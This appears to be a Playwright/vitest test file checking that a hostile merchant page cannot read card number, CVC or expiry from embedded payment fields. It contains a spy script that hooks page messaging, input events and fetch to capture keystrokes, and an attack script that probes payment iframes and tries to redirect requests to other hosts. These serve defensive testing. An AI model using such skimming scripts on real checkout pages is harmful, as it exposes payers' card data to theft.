import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withNewPage } from '../support/browser.ts';
import { newSession } from './checkout-page.ts';
import { frameIn, openMerchantPage, typeCard, typeCardForm } from './merchant-page.ts';
import { openStage, type Stage } from './stage.ts';

/** A card that occurs nowhere else. */
const NUMBER = '371449635398431';
const SECRETS: readonly (readonly [name: string, form: RegExp])[] = [
  ['number', /3714[ +.-]?496353[ +.-]?98431|3714(%20)496353(%20)98431/],
  ['a part of the number', /496353|98431/],
  ['CVC', /(?<![0-9a-zA-Z_.])7391(?![0-9a-zA-Z_])/],
  ['expiry', /(?<![0-9a-zA-Z_.])11( \/ |\/|%2F)?34(?![0-9a-zA-Z_])/],
];

/**
 * A script that runs before all others of a page and sees whatever a page can: it stands between the ends of every
 * MessageChannel, hears every listener's messages and every call, and opens the channels whose names it learns.
 */
const SPY = `if (window === top) {
window.heard = [];
window.frameEnds = [];
const opened = new Set();
const keep = (what, depth = 0) => {
  try { window.heard.push(JSON.stringify(what, (_, value) => (value instanceof ArrayBuffer ? 'buffer' : value)) ?? ''); }
  catch { window.heard.push(String(what)); }
  const group = what?.setup?.group;
  if (group === undefined || opened.has(group)) return;
  opened.add(group);
  for (const name of [group, 'florin card ' + group]) {
    const channel = new BroadcastChannel(name);
    channel.onmessage = ({ data }) => keep(data);
    channel.postMessage({ type: 'request', id: 'spy' });
  }
};
const listen = EventTarget.prototype.addEventListener;
EventTarget.prototype.addEventListener = function (type, listener, ...more) {
  if (typeof listener !== 'function') return listen.call(this, type, listener, ...more);
  return listen.call(this, type, function (event) { keep(event.data ?? event.key); return listener.call(this, event); }, ...more);
};
for (const type of ['message', 'keydown', 'input', 'paste', 'beforeinput'])
  listen.call(window, type, (event) => keep(event.data ?? event.key ?? event.target?.value), true);
const Channel = MessageChannel;
window.OwnChannel = Channel;
window.MessageChannel = class {
  constructor() {
    const [page, frame] = [new Channel(), new Channel()];
    const relay = (from, to) => { from.onmessage = ({ data, ports }) => { keep(data); to.postMessage(data, ports); }; };
    relay(page.port2, frame.port2);
    relay(frame.port2, page.port2);
    window.frameEnds.push(frame.port2);
    this.port1 = page.port1;
    this.port2 = frame.port1;
  }
};
for (const target of [MessagePort.prototype, BroadcastChannel.prototype, window]) {
  const { postMessage } = target;
  target.postMessage = function (...given) { keep(given[0]); return postMessage.apply(this, given); };
}
const { fetch: call } = window;
window.fetch = (...given) => { keep(given.map((one) => String(one?.body ?? one?.url ?? one))); return call(...given); };
}`;

/** Asks each frame, over the ports that the page holds, for what it should not give. */
const ATTACK = (elsewhere: string) =>
  `(async () => {
  for (const [index, end] of frameEnds.entries()) {
    for (const kind of ['cardNumber', 'cardExpiry', 'cardCvc']) {
      const { port1, port2 } = new OwnChannel();
      port1.onmessage = ({ data }) => heard.push(JSON.stringify(data));
      end.postMessage({ type: 'peer', kind }, [port2]);
      port1.postMessage({ say: 'what', number: 1 });
    }
    const params = { type: 'card', metadata: {}, client_secret: 'pi_1_secret_1' };
    let number = 1000 * (index + 1);
    const ask = (what) => end.postMessage({ type: 'ask', number: number++, ask: what });
    ask({ what: 'value' });
    for (const path of ['@${elsewhere}/', '.${elsewhere}/', '/../@${elsewhere}', '/v1/customers', '/v1/nothing', '/v1/payment_methods/../customers', '//${elsewhere}/'])
      for (const place of ['card', 'payment_method', 'payment_method_data']) ask({ what: 'send', path, params, place });
    ask({ what: 'send', path: '/v1/payment_methods', params: { 'card[unknown]': 'x' }, place: 'payment_method' });
    ask({ what: 'send', path: '/v1/tokens', params: {}, place: 'card' });
    ask({ what: 'send', path: '/v1/tokens', params: { unknown: 'x' }, place: 'payment_method_data' });
  }
  for (let n = 0; n < frames.length; n++) {
    frames[n].postMessage({ florin: 'welcome', setup: {} }, '*', [new OwnChannel().port2]);
    try { heard.push(frames[n].document.documentElement.outerHTML); } catch {}
  }
})()`;

let stage: Stage;
beforeAll(async () => {
  stage = await openStage();
});
afterAll(() => stage.close());

const typeIn = async (page: Page, place: string, text: string) => {
  await frameIn(page, place).getByRole('textbox').click();
  await page.keyboard.type(text);
};

/** Every element that takes a card: how a page makes it, how a payer fills it, and how the page uses it. */
const ELEMENTS = [
  {
    name: 'card',
    setUp: "const card = stripe.elements().create('card'); card.mount('#a');",
    fill: (page: Page) => typeCard(page, '#a', NUMBER, '1134 7391 94103'),
    use: "stripe.createPaymentMethod({ type: 'card', card })",
  },
  {
    name: 'cardNumber, cardExpiry and cardCvc',
    setUp: `const elements = stripe.elements();
const number = elements.create('cardNumber'); number.mount('#a');
elements.create('cardExpiry').mount('#b'); elements.create('cardCvc').mount('#c');`,
    async fill(page: Page) {
      await typeIn(page, '#a', NUMBER);
      await typeIn(page, '#b', '1134');
      await typeIn(page, '#c', '7391');
    },
    use: "stripe.createPaymentMethod({ type: 'card', card: number })",
  },
  {
    name: 'payment, beside address and e-mail',
    setUp: `const elements = stripe.elements({ mode: 'payment', amount: 1099, currency: 'usd' });
elements.create('payment').mount('#a'); elements.create('linkAuthentication').mount('#c');
stripe.elements().create('address', { mode: 'billing' }).mount('#b');`,
    async fill(page: Page) {
      await typeCardForm(page, '#a', NUMBER, '1134 7391 94103');
      await frameIn(page, '#c').getByRole('textbox').fill('jenny@example.com');
    },
    use: 'elements.submit().then(() => stripe.createConfirmationToken({ elements }))',
  },
];

describe('a hostile page never sees number, CVC or expiry', () => {
  it.each(ELEMENTS)('of $name', ({ setUp, fill, use }) =>
    withNewPage(
      stage.browser,
      async (page) => {
        const requests: { url: string; body: string }[] = [];
        page
          .context()
          .on('request', (request) => requests.push({ url: request.url(), body: request.postData() ?? '' }));
        await page.addInitScript(SPY);
        const body = '<div id="a"></div><div id="b"></div><div id="c"></div>';
        await openMerchantPage(page, stage, { body, setUp });
        await fill(page);
        await page.evaluate(use);
        await page.evaluate(ATTACK(new URL(stage.shop.returnUrl).host));
        await expect
          .poll(
            async () => ((await page.evaluate('heard')) as string[]).filter((one) => one.includes('"answer"')).length,
          )
          .toBeGreaterThan(20);
        await page.evaluate(use);

        const heard = ((await page.evaluate('heard')) as string[]).join('\n');
        expect(heard).toContain('"brand":"amex"');
        expect(heard).toContain('takes no payment method from an element');
        expect(leaksIn(heard)).toEqual([]);
        expect(leaksIn(await page.content())).toEqual([]);
        // The number goes to Florin alone, and only where a card belongs.
        const carrying = requests.filter((request) => leaksIn(`${request.url} ${request.body}`).length > 0);
        expect(carrying.length).toBeGreaterThan(0);
        const places = [...new Set(carrying.map(({ url }) => url))];
        for (const place of places) expect(place.startsWith(`${stage.url}/v1/`)).toBe(true);
        expect(places.map((place) => place.slice(stage.url.length)).sort()).toEqual(
          places
            .map((place) => new URL(place).pathname)
            .filter((path) => TAKES_A_CARD.includes(path))
            .sort(),
        );
      },
      { locale: 'en-US' },
    ),
  );

  it('of the checkout that it embeds', async () => {
    const session = await newSession(stage, {
      ui_mode: 'embedded_page',
      allowed_payment_method_types: ['card'],
      redirect_on_completion: 'never',
    });
    await withNewPage(
      stage.browser,
      async (page) => {
        await page.addInitScript(SPY);
        const setUp = `stripe.initEmbeddedCheckout({ fetchClientSecret: async () => '${session.client_secret}' })
  .then((checkout) => checkout.mount('#a'));`;
        await openMerchantPage(page, stage, { train: 'basil/stripe.js', body: '<div id="a"></div>', setUp });
        const frame = frameIn(page, '#a');
        await frame.getByLabel('Card number').fill(NUMBER);
        await frame.getByLabel('Expiration date').fill('1134');
        await frame.getByLabel('Security code').fill('7391');
        await page.evaluate(ATTACK(new URL(stage.shop.returnUrl).host));
        const heard = ((await page.evaluate('heard')) as string[]).join('\n');
        expect(heard.length).toBeGreaterThan(0);
        expect(leaksIn(heard)).toEqual([]);
      },
      { locale: 'en-US' },
    );
  });
});

const TAKES_A_CARD = ['/v1/payment_methods', '/v1/tokens', '/v1/confirmation_tokens'];

/** The names of what a text gives away. */
function leaksIn(text: string): string[] {
  return SECRETS.flatMap(([name, form]) => (form.test(text) ? [name] : []));
}
